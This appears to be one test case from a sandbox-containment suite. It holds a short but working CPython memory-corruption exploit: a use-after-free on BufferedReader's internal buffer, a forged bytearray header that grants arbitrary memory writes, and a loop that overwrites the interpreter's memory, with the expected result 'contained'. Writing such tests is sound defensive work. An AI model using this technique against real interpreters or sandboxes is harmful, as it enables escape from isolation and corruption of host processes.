# attack: writes over all memory of its own interpreter, the parts of the prelude and of the engine included
# property: S34
# timeout_ms: 5000
# expect: contained
import io
import struct

kept = []


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        kept.append(buffer)
        return len(buffer)

    def readable(self):
        return True


reader = io.BufferedReader(Raw(), 1 << 12)
reader.read(1)
del reader
spray = [[None] * 512 for _ in range(64)]
words = kept[0].cast("B").cast("P")
found = next(at for at in range(len(words) - 1) if words[at] == words[at + 1] == id(None))
fake = struct.pack("PPPPPPP", 1 << 28, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
words[found] = id(fake) + bytes.__basicsize__ - 1
memory = next(part[index] for part in spray for index in range(512) if part[index] is not None)
for at in range(2**31 - (1 << 20), 0, -(1 << 20)):
    memory[at : at + (1 << 16)] = b"\xff" * (1 << 16)
return "held"
